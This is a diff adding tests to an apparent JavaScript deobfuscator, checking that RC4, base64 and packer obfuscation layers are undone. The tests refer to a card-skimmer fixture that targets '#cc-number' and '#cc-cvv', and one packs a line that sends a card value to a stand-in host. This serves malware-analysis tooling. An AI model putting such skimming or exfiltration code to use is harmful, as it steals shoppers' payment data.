@@ -16,6 +16,38 @@ describe('deobfuscate: layers', () => {
     });
   }
 
+  it('opens a list too short to give hidden names away', async () => {
+    const opened = await open(
+      obfuscate("track('order placed', 'guest'); show('thank you', 12);", {
+        ...settings['a list in base64'],
+        identifierNamesGenerator: 'mangled',
+      }),
+    );
+    assert.match(opened.text!, /^track\("order placed", "guest"\);\s+show\("thank you", 12\);?\s*$/);
+  });
+
+  it('opens a list that takes long to rotate', async () => {
+    const words = Array.from({ length: 400 }, (_, index) => `'word ${index * index}'`);
+    const opened = await open(
+      obfuscate(`track([${words.join()}]);`, settings['a list in RC4, shuffled and rotated']!),
+    );
+    assert.deepEqual(
+      opened.layers.map(({ kind }) => kind),
+      ['webcrack'],
+    );
+    assert.ok(opened.text!.includes('"word 159201"'));
+  });
+
+  it('opens one generation after the other', async () => {
+    const rc4 = settings['a list in RC4, shuffled and rotated']!;
+    const opened = await open(
+      obfuscate(obfuscate(skimmer, { ...rc4, selfDefending: true }), { ...rc4, seed: 8 }),
+    );
+    for (const text of [address, '#cc-number', '#cc-cvv'])
+      assert.ok(opened.text!.includes(text), opened.text!);
+    assert.doesNotMatch(opened.text!, /fromCharCode|parseInt/);
+  });
+
   it('opens a packer', async () => {
     const opened = await open(pack("fetch('https://stats.invalid/' + card.value)"));
     assert.ok(opened.text!.includes('https://stats.invalid/'));
